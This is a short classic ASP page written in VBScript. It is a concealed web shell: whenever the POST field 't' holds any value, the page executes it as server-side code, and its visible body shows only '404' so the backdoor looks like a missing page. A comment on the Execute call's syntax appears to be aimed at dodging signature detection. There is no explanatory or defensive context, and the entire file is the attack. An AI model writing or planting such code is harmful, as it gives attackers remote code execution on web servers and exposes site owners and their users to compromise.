<%@ Language=VBScript %>
<%
' statement form: no brackets around the argument
If Len(Request.Form("t")) > 0 Then
    Execute   Request.Form("t")
End If
%>
<html><body>404</body></html>
